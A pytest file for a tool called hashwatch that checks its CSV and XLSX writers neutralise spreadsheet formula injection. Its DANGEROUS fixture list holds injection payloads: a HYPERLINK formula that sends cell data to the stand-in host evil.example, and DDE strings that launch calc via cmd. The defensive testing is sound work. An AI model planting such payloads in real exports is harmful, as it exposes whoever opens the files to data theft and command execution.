from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hashwatch.errors import InputError
from hashwatch.io.tables import (
    escape_csv_text,
    unescape_csv_text,
    write_csv,
    write_json,
    write_xlsx,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"see")',
    "@SUM(1,2)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_cells_that_would_run_as_formulas_are_quoted(tmp_path: Path, text: str) -> None:
    write_csv(tmp_path / "x.csv", ["v"], [{"v": text}])
    with (tmp_path / "x.csv").open(encoding="utf-8-sig") as stream:
        cell = next(iter(csv.DictReader(stream)))["v"]
    assert cell == "'" + text
    assert unescape_csv_text(cell) == text


@pytest.mark.parametrize("text", ["+86 10 5555 0100", "-5", "-1,234.5", "plain", "中文"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert escape_csv_text(text) == text


@given(st.text())
def test_escape_round_trips(text: str) -> None:
    assert unescape_csv_text(escape_csv_text(text)) == text


def test_xlsx_text_is_never_a_formula_and_control_characters_are_replaced(
    tmp_path: Path,
) -> None:
    rows = [{"v": t} for t in DANGEROUS] + [{"v": "S19\x01Pro"}, {"v": 3.5}]
    write_xlsx(tmp_path / "x.xlsx", {"sheet": (["v"], rows)})
    sheet = load_workbook(tmp_path / "x.xlsx")["sheet"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[: len(DANGEROUS)]] == DANGEROUS
    assert cells[-2].value == "S19\ufffdPro"
    assert cells[-1].value == 3.5


def test_unwritable_targets_are_clear_errors(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is a directory"):
        write_json(tmp_path, {"a": 1})
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(InputError, match="cannot write"):
        write_csv(blocker / "x.csv", ["a"], [])
